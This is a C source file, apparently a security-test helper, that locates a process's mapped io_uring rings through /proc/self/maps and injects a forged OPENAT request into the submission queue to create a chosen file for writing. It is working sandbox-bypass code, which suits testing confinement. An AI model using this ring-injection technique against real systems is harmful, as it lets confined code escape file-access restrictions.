#include "attack_rings.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>

struct ring_parameters known_ring;
char wanted_file[256];

enum { REQUEST_SIZE = 64, OPENAT = 18 };

/* struct io_uring_sqe, as far as it counts here. */
struct request {
  uint8_t opcode, flags;
  uint16_t priority;
  int32_t fd;
  uint64_t offset, address;
  uint32_t mode, open_flags;
  uint64_t others[4];
};
_Static_assert(sizeof(struct request) == REQUEST_SIZE, "a request has 64 bytes");

static void leave_request(char *rings, struct request *requests) {
  uint32_t *tail = (uint32_t *)(void *)(rings + known_ring.sq.tail);
  const uint32_t slot = *tail & *(uint32_t *)(void *)(rings + known_ring.sq.ring_mask);
  requests[slot] = (struct request){.opcode = OPENAT,
                                    .fd = AT_FDCWD,
                                    .address = (uintptr_t)wanted_file,
                                    .mode = 0600,
                                    .open_flags = O_CREAT | O_WRONLY};
  ((uint32_t *)(void *)(rings + known_ring.sq.array))[slot] = slot;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
}

int attack_rings(void) {
  char line[512];
  char *rings = NULL;
  struct request *requests = NULL;
  int found = 0;
  FILE *maps = fopen("/proc/self/maps", "r");
  if (maps == NULL) {
    return -1;
  }
  while (fgets(line, sizeof line, maps) != NULL) {
    unsigned long start, offset;
    if (strstr(line, "[io_uring]") == NULL || sscanf(line, "%lx-%*x %*s %lx", &start, &offset) != 2) {
      continue;
    }
    found++;
    if (offset == RING_OFFSET_RINGS) {
      rings = (char *)start;
    } else if (offset == RING_OFFSET_SQES) {
      requests = (struct request *)start;
    }
  }
  (void)fclose(maps);
  if (known_ring.sq_entries > 0 && rings != NULL && requests != NULL) {
    leave_request(rings, requests);
  }
  return found;
}
